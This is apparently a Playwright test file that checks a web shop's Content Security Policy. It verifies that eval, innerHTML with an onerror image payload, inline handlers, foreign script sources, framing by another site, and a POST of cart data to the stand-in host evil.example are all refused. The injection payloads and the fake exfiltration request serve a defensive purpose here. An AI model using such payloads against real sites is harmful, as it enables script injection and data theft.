import { createServer } from 'node:http';
import type { Page } from '@playwright/test';
import { portOf } from '../../server/portOf';
import { expect, test as shop } from './shop';

/** Collects the violations of the policy on all pages: the directive and what it refused. */
const test = shop.extend<{ violations: string[] }>({
  violations: async ({ context }, use) => {
    const violations: string[] = [];
    await context.exposeBinding('reportViolation', (_source, text: string) => violations.push(text));
    await context.addInitScript(() => {
      const { reportViolation } = window as unknown as { reportViolation: (text: string) => void };
      addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sample }) =>
        reportViolation(`${effectiveDirective} ${blockedURI} ${sample}`.trim()),
      );
    });
    await use(violations);
  },
});

// The browser reports a violation on the console, at which every other test fails.
test.describe('an attack', () => {
  test.use({ announced: /./ });

  /** Lets the page run an attack. Returns 'done', or the name of the error. */
  const attempt = (page: Page, code: 'eval' | 'innerHTML' | 'handler' | 'address') =>
    page.evaluate(
      // In another task, because code of the test's protocol may evaluate texts.
      (what) =>
        new Promise<string>((resolve) =>
          setTimeout(() => {
            try {
              if (what === 'eval') window.eval('window.planted = 1');
              if (what === 'innerHTML') document.body.innerHTML = '<img src="x" onerror="planted = 1">';
              if (what === 'handler') document.body.setAttribute('onclick', 'planted = 1');
              if (what === 'address') document.createElement('script').src = '/pictures/planted.js';
              resolve('done');
            } catch (error) {
              resolve((error as Error).name);
            }
          }),
        ),
      code,
    );
  const ran = (page: Page) => page.evaluate(() => 'planted' in window);

  test('scripts that the page itself would run are refused', async ({ page, violations }) => {
    for (const [code, error] of [
      ['eval', 'EvalError'],
      ['innerHTML', 'TypeError'],
      ['handler', 'TypeError'],
      ['address', 'TypeError'],
    ] as const)
      await test.step(code, async () => {
        await page.goto('/');
        violations.length = 0;
        expect(await attempt(page, code)).toBe(error);
        expect(await ran(page)).toBe(false);
        await expect.poll(() => violations.join()).toMatch(/^(require-trusted-types-for|script-src) /);
      });
  });

  test('a request to elsewhere is refused', async ({ page, violations }) => {
    await page.goto('/');
    const answer = await page.evaluate(() =>
      fetch('https://evil.example/', { method: 'POST', body: 'cart' }).then(() => 'sent', String),
    );
    expect(answer).toContain('TypeError');
    await expect.poll(() => violations.join()).toContain('connect-src https://evil.example/');
  });

  test('a page of another site cannot frame the shop', async ({ context, baseURL }) => {
    const evil = createServer((_request, response) =>
      response.setHeader('content-type', 'text/html').end(`<iframe src="${baseURL}/cart"></iframe>`),
    ).listen(0);
    const page = await context.newPage();
    await page.goto(`http://localhost:${portOf(evil)}/`);
    await expect.poll(() => page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/');
    evil.close();
  });
});
